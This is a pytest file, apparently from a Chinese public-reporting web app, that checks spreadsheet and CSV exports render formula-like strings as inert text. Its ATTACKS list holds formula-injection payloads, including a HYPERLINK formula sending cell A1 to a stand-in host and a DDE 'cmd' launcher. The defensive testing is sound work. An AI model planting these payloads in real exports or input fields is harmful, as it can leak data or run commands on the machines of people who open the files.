"""#13 point 7: text that looks like a formula is written as text in every xlsx and CSV we produce.

The attack (it worked on the main of 2026-12-03): a body named `=HYPERLINK("http://…","点我")` became
a live formula in the status download (/admin/status.xlsx), and so would a cell, a user agent or a
name in any other export.  Every download is loaded back here: no cell is a formula, every
formula-like string is a text cell with its value unchanged (xlsx) or quoted (CSV), numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import random
from datetime import datetime

import pytest
from openpyxl import load_workbook

from workflow.clock import SHANGHAI
from workflow.db.factories import make_body, make_jurisdiction
from workflow.db.models import Body
from workflow.domain.samples import sample_report
from workflow.domain.summary import BodyReport, Outlier, summarize
from workflow.exporters.safe import inert, is_risky
from workflow.exporters.summary_xlsx import summary_workbook
from workflow.publish.data import CSV_HEADER, render_csv, render_xlsx
from workflow.publish.html import PublicationMeta
from workflow.services import audit

ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)


def _cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def _assert_inert(data: bytes, expected: tuple[str, ...]) -> None:
    """No formula anywhere; each expected string is there, unchanged, as a text cell."""
    seen: dict[str, str] = {}
    for cell in _cells(data):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            seen[cell.value] = cell.data_type
    for text in expected:
        assert seen.get(text) == "s", f"{text!r} is not a text cell (found: {seen.get(text)!r})"


def test_the_helper():
    for text in ATTACKS:
        assert is_risky(text) and inert(text) == "'" + text
    for safe in ("鲁沙尔镇人民政府", "0", "-5", "+1.5", "12.30", "", "A=1", "—", "-", "--"):
        assert inert(safe) == safe
    assert inert(-5) == -5 and inert(3.5) == 3.5


@pytest.mark.both_backends
def test_the_status_download_keeps_body_names_as_text(world, browser, db):
    with db.sessions() as s:
        home = s.get(Body, world.ids["ours"]).jurisdiction
        for n, name in enumerate(ATTACKS[:4]):
            make_body(s, name, code=f"evil{n}", jurisdiction=home)
        make_body(s, "正常单位", code="=2+3", jurisdiction=home)
        s.commit()
    admin = browser("admin")
    r = admin.get("/admin/status.xlsx", params={"year": 2024})
    assert r.status_code == 200
    _assert_inert(r.content, (*ATTACKS[:4], "=2+3"))
    dates = [c for c in _cells(r.content) if c.column == 5 and c.row > 1 and c.parent.title != "汇总"]
    assert dates and all(c.is_date for c in dates)  # dates stay dates


@pytest.mark.both_backends
def test_the_audit_download_keeps_names_and_clients_as_text(world, browser, db):
    with db.sessions() as s:
        far = make_jurisdiction(s, "=HYPERLINK(辖区)")
        evil = make_body(s, ATTACKS[0], code="evil", jurisdiction=far)
        audit.record(s, "admin.body_add", actor_id=world.ids["admin"], body_id=evil.id, name=evil.name)
        s.commit()
    admin = browser("admin")
    admin.client.headers["User-Agent"] = ATTACKS[1]
    assert admin.post("/admin/seasons", {"report_year": "2030"}).status_code == 303  # audited, with the UA
    r = admin.get("/admin/audit.xlsx")
    assert r.status_code == 200
    _assert_inert(r.content, (ATTACKS[0], ATTACKS[1]))


def _report_with(text: str):
    report = sample_report(random.Random(7), year=2024, body_name=ATTACKS[0])
    table = report.tables[0] if isinstance(report.tables, list) else next(iter(report.tables.values()))
    row, cells = next(iter(table.rows.items()))
    table.set(row, next(iter(cells)), text)
    return report


@pytest.mark.parametrize("text", ATTACKS)
def test_published_csv_quotes_formula_like_cells(text):
    report = _report_with(text)
    rows = list(csv.reader(io.StringIO(render_csv(report).decode("utf-8-sig"))))
    values = [r[CSV_HEADER.index("数值")] for r in rows[1:]]
    assert "'" + text.strip() in values or "'" + text in values
    assert not any(v and is_risky(v) for r in rows for v in r)  # no field a spreadsheet would run
    assert any(v.isdigit() for v in values)  # the numbers are still plain numbers


@pytest.mark.parametrize("text", ATTACKS)
def test_published_xlsx_keeps_formula_like_cells_as_text(text):
    report = _report_with(text)
    meta = PublicationMeta(version=1, published_at=datetime(2025, 1, 20, 9, 0, tzinfo=SHANGHAI))
    data = render_xlsx(report, meta)
    formula_like = [c for c in _cells(data) if isinstance(c.value, str) and is_risky(c.value)]
    for cell in _cells(data):
        assert cell.data_type != "f"
    assert all(c.data_type == "s" for c in formula_like)
    assert any(c.value in (text, text.strip()) for c in formula_like)  # the cell is there, unchanged
    assert any(c.data_type == "n" for c in _cells(data))  # numbers stay numbers
    assert render_xlsx(report, meta) == data  # still one publication, byte for byte one file


def test_the_district_summary_workbook_keeps_names_as_text():
    report = sample_report(random.Random(7), year=2024, body_name=ATTACKS[0])
    current = summarize(2024, [BodyReport(1, ATTACKS[0], "township", report)])
    previous = summarize(2023, [])
    outliers = [Outlier(1, name, "township", "ten_times", "=1+1 十倍于同类单位") for name in ATTACKS[:4]]
    data = summary_workbook('=HYPERLINK("http://evil.example")区', current, previous, outliers)
    _assert_inert(data, (*ATTACKS[:4], "=1+1 十倍于同类单位"))
    assert any(c.data_type == "n" for c in _cells(data))  # the sums stay numbers
